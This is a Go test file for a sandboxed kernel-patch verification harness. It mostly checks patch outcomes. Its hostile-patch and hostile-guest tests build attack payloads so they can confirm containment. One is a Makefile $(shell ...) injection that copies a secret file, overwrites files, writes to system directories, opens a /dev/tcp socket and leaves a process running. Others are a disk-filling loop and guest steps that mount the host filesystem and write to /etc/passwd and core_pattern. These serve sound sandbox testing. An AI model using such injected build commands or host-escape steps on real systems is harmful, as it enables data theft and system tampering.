package harness_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"umlab/harness"
	"umlab/harness/plan"
	"umlab/harness/report"
	"umlab/harness/result"
	"umlab/harness/scenario"
)

func verify(t *testing.T, l *harness.Lab, o harness.VerifyOptions) *result.Verification {
	t.Helper()
	o.Command = "go test"
	v, err := l.Verify(t.Context(), o, harness.VerifyOutputs{})
	if fault(v == nil, err) {
		t.Fatal(err)
	}
	valid(t, result.VerificationSchema, report.JSON, v)
	return v
}

// shipped verifies patches of the scenario on a tree and holds them to what
// patches.toml says of them.
func shipped(t *testing.T, treeName string, only ...string) {
	t.Helper()
	seen := 0
	for _, p := range patchCases(t) {
		if !p.applies(treeName) || len(only) > 0 && !slices.Contains(only, p.File) {
			continue
		}
		seen++
		t.Run(p.File, func(t *testing.T) {
			l, out := real(t)
			v := verify(t, l, harness.VerifyOptions{Patch: filepath.Join("../scenarios", plan.DefaultScenario, p.File), MatrixOptions: harness.MatrixOptions{Tree: treeName}})
			if v.Conclusion != p.Conclusion {
				t.Errorf("%s: %s (%s), want %s: %s", p.File, v.Conclusion, v.Reason, p.Conclusion, p.Why)
			}
			if (v.Exit == result.ExitExpected) != (v.Conclusion == result.Fixed) {
				t.Errorf("%s: exit %d for %s", p.File, v.Exit, v.Conclusion)
			}
			for _, pair := range v.Pairs {
				if pair.Before.Totals.Disagreeing+pair.After.Totals.Disagreeing > 0 {
					t.Errorf("%s: the oracle and the boots disagree", p.File)
				}
			}
			text, err := os.ReadFile(out.Name())
			if err != nil || !strings.Contains(string(text), string(v.Conclusion)) {
				t.Errorf("the report does not say %s: %v\n%s", v.Conclusion, err, text)
			}
		})
	}
	if seen < max(1, len(only)) {
		t.Errorf("only %d of the patches were found", seen)
	}
}

// TestVerify proves the fix, and catches one that only seems to work.
func TestVerify(t *testing.T) {
	if testing.Short() {
		t.Skip("builds: not with -short")
	}
	shipped(t, "debian-6.12", "fix.patch", "kernel-code-model.patch", "comment-only.patch")
}

// TestVerifyAll holds all patches on all trees.
func TestVerifyAll(t *testing.T) {
	long(t)
	for _, tree := range []string{"debian-6.12", "debian-7.2", "debian-7.3"} {
		t.Run(tree, func(t *testing.T) { shipped(t, tree) })
	}
}

// TestVerifyRefuses gives what cannot be a patch of the tree: exit 2, and
// nothing is built.
func TestVerifyRefuses(t *testing.T) {
	l, _ := real(t)
	misfit := filepath.Join(t.TempDir(), "misfit.patch")
	diff := "--- a/arch/um/Makefile\n+++ b/arch/um/Makefile\n@@ -1,3 +1,3 @@\n #\n-# This line is not there\n+# Nor is this\n # architecture-specific flags and dependencies.\n"
	if err := os.WriteFile(misfit, []byte(diff), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := l.Verify(t.Context(), harness.VerifyOptions{Patch: misfit}, harness.VerifyOutputs{})
	if harness.ExitCode(err) != result.ExitUsage || !strings.Contains(err.Error(), "arch/um/Makefile") || !strings.Contains(err.Error(), "This line is not there") {
		t.Errorf("a patch that does not apply: exit %d, %v", harness.ExitCode(err), err)
	}
}

// hostile is a patch whose Makefile does what a Makefile must not: it is run by
// every make of the tree.
func hostile(t *testing.T, shell string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "hostile.patch")
	patch := fmt.Sprintf("Subject: [PATCH] um: be hostile\n\n---\n--- a/arch/um/Makefile\n+++ b/arch/um/Makefile\n@@ -1,3 +1,4 @@\n+HOSTILE := $(shell %s)\n #\n # This file is included by the global makefile so that you can add your own\n # architecture-specific flags and dependencies.\n", shell)
	if err := os.WriteFile(path, []byte(patch), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestHostilePatch runs a patch that reads, writes, connects and leaves
// processes behind; none of it reaches past the cell's own directory.
func TestHostilePatch(t *testing.T) {
	l, _ := real(t)
	home := t.TempDir()
	canary := filepath.Join(home, "secret")
	if err := os.WriteFile(canary, []byte("canary-5f1c"), 0o600); err != nil {
		t.Fatal(err)
	}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer listener.Close()
	reached := make(chan struct{}, 1)
	go func() {
		if c, err := listener.Accept(); err == nil {
			c.Close()
			reached <- struct{}{}
		}
	}()
	_, port, err := net.SplitHostPort(listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	marker := filepath.Base(t.TempDir()) + "umlabhostile"
	shell := strings.Join([]string{
		"exec 2>/dev/null",
		"cat " + canary + " > /build/stolen",
		"echo x > " + canary,
		"touch /tmp/" + marker + " $(HOME)/" + marker + " /" + marker + " /usr/" + marker + " /src/" + marker,
		"bash -c 'echo x > /dev/tcp/127.0.0.1/" + port + "'",
		"(setsid sleep 98765 >/dev/null 2>&1 </dev/null &)",
		"true",
	}, "; ")
	before := matrix(t, l, harness.MatrixOptions{})
	l, _ = real(t)
	v := verify(t, l, harness.VerifyOptions{Patch: hostile(t, shell)})
	if v.Conclusion != result.NoEffect {
		t.Errorf("conclusion %s (%s); the patch changes no binary", v.Conclusion, v.Reason)
	}
	if text, err := os.ReadFile(canary); err != nil || string(text) != "canary-5f1c" {
		t.Errorf("the user's file is now %q, %v", text, err)
	}
	resolved := v.Pairs[0].After.Config.Resolved
	if stolen, err := os.ReadFile(filepath.Join(filepath.Dir(resolved), "stolen")); err != nil || len(stolen) > 0 {
		t.Errorf("the build read %q of the user's file, %v", stolen, err)
	}
	for _, dir := range []string{os.TempDir(), os.Getenv("HOME"), "/", "/usr"} {
		if _, err := os.Lstat(filepath.Join(dir, marker)); err == nil {
			t.Errorf("the build wrote to %s", dir)
		}
	}
	select {
	case <-reached:
		t.Error("the build reached a socket of the host")
	default:
	}
	if left := processes(t, "sleep\x0098765"); len(left) > 0 {
		t.Errorf("processes outlived the build: %v", left)
	}
	// The store still says the same of the tree without the patch.
	l, _ = real(t)
	after := matrix(t, l, harness.MatrixOptions{})
	if before.Config.Resolved != after.Config.Resolved || !mapsEqual(outcomes(before), outcomes(after)) || before.Tree.Digest == v.Pairs[0].After.Tree.Digest {
		t.Error("the patched build shows in the results of the tree without it")
	}
}

// processes lists the processes of the machine whose command line holds text.
func processes(t *testing.T, text string) (found []string) {
	t.Helper()
	files, err := filepath.Glob("/proc/[0-9]*/cmdline")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if b, err := os.ReadFile(f); err == nil && strings.Contains(string(b), text) {
			found = append(found, f)
		}
	}
	return found
}

// TestLimit fills the disk: the build is ended at the limit that configs set,
// which is the machine's matter and no result, and nothing stays.
func TestLimit(t *testing.T) {
	if testing.Short() {
		t.Skip("builds: not with -short")
	}
	out, err := os.Create(filepath.Join(t.TempDir(), "stdout"))
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	project := os.DirFS("..")
	limits, err := os.ReadFile("../configs/limits.toml")
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Replace(string(limits), "disk-mb = 8192     # of the cell", "disk-mb = 700     # of the cell", 1)
	l, err := harness.Open(harness.Options{Project: replaced{project, "configs/limits.toml", []byte(text)}, Getenv: os.Getenv, Stdout: out, Stderr: os.Stderr, Forget: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(l.Close)
	patch := hostile(t, "for i in 1 2 3 4 5 6 7 8; do head -c 300000000 /dev/zero > /build/fill$$i; sleep 1; done")
	_, err = l.Verify(context.WithoutCancel(t.Context()), harness.VerifyOptions{Patch: patch}, harness.VerifyOutputs{})
	if err == nil || harness.ExitCode(err) != result.ExitInfra || !strings.Contains(err.Error(), "limit of disk (700 MB); configs/limits.toml sets it") {
		t.Errorf("a build that fills the disk: exit %d, %v", harness.ExitCode(err), err)
	}
	var errno interface{ Timeout() bool }
	if errors.As(err, &errno) && errno.Timeout() {
		t.Errorf("the limit shows as a time-out: %v", err)
	}
}

// TestHostileGuest boots a guest whose init mounts the host's file system, as
// far as its process sees one, and reads and writes there: it finds the sysroot
// and its own files, read-only, and nothing of the machine.
func TestHostileGuest(t *testing.T) {
	if testing.Short() {
		t.Skip("boots: not with -short")
	}
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("canary-77aa"), 0o644); err != nil {
		t.Fatal(err)
	}
	init, err := os.ReadFile("../rootfs/init")
	if err != nil {
		t.Fatal(err)
	}
	const ready = `printf '\numlab: ready\n'`
	attack := `mount -t hostfs -o / none /sys && echo "HOSTILE: mounted"
cat /sys` + secret + ` 2>/dev/null && echo "HOSTILE: read a file of the host"
for f in ` + secret + ` /usr/bin/umlab-x /umlab/root/x /umlab/linux /etc/passwd /proc/sys/kernel/core_pattern; do
	if echo x > /sys$f; then echo "HOSTILE: wrote $f"; fi
done 2>/dev/null
umount /sys
`
	text := strings.Replace(string(init), ready, attack+ready, 1)
	if !strings.Contains(text, attack) {
		t.Fatal("rootfs/init no longer says that it is ready as this test expects")
	}
	out, err := os.Create(filepath.Join(t.TempDir(), "stdout"))
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	l, err := harness.Open(harness.Options{Project: replaced{os.DirFS(".."), "rootfs/init", []byte(text)}, Getenv: os.Getenv, Stdout: out, Stderr: os.Stderr, Forget: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(l.Close)
	r := matrix(t, l, harness.MatrixOptions{Select: scenario.Selection{Cells: []string{"static-large"}, Placements: []string{"low"}}})
	check(t, r)
	console, err := os.ReadFile(r.Cells[0].Placements[0].Runs[0].Transcript)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(console), "HOSTILE: mounted") {
		t.Fatalf("the guest did not mount hostfs, so nothing was tried:\n%s", console)
	}
	for _, bad := range []string{"HOSTILE: read", "HOSTILE: wrote", "canary-77aa"} {
		if strings.Contains(string(console), bad) {
			t.Errorf("console holds %q:\n%s", bad, console)
		}
	}
	if text, err := os.ReadFile(secret); err != nil || string(text) != "canary-77aa" {
		t.Errorf("the host's file is now %q, %v", text, err)
	}
}
